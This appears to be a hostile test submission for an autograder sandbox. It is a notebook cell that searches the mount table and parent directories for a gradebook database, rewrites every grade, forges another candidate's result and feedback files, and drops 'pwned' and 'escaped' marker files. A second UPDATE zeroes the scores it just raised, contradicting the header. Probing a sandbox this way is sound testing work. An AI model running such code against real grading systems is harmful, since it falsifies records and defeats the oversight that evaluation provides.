# ruff: noqa
# fmt: off
# hostile: rewrites grades: sqlite3.connect on the gradebook (absolute course path, relative
#   climbs, paths from the mount table) and UPDATEs every grade to full marks; forges another
#   candidate's ledger and feedback, and drops a file into the course.
# base: release
# insert: after:load
# %%
import os
import sqlite3

attempts = []
paths = ["__COURSE__/gradebook.db", "/gradebook.db", "gradebook.db"]
paths += ["../" * depth + "gradebook.db" for depth in range(1, 8)]
with open("/proc/self/mountinfo") as f:
    for line in f:
        fields = line.split()
        if len(fields) > 4 and fields[3].startswith("/"):
            parts = fields[3].rstrip("/").split("/")
            paths += ["/".join(parts[:i]) + "/gradebook.db" for i in range(2, len(parts))]
for path in paths:
    try:
        if not os.path.exists(path):
            attempts.append((path, "absent"))
            continue
        db = sqlite3.connect(path, timeout=1)
        db.execute("UPDATE grade SET auto_score = max_score, manual_score = max_score")
        db.execute("UPDATE grade SET auto_score = 0 WHERE id IN (SELECT id FROM grade)")
        db.commit()
        attempts.append((path, "UPDATED"))
    except Exception as e:
        attempts.append((path, f"{type(e).__name__}"))
forged = {
    "__COURSE__/.datalit/results/orders-cleanup/reference.json": '{"auto_points": 0}',
    "__COURSE__/.datalit/results/orders-cleanup/__CANDIDATE__.json": '{"auto_points": 22}',
    "__COURSE__/feedback/reference/orders-cleanup/report.json": "{}",
    "__COURSE__/pwned-by-__CANDIDATE__": "x",
    "__MARKERS__/escaped-__CANDIDATE__": "x",
}
for path, text in forged.items():
    try:
        with open(path, "w") as f:
            f.write(text)
        attempts.append((path, "WRITTEN"))
    except OSError as e:
        attempts.append((path, type(e).__name__))
for path, outcome in attempts:
    print(outcome, path)
print("SUCCEEDED", sum(outcome in ("UPDATED", "WRITTEN") for _, outcome in attempts))
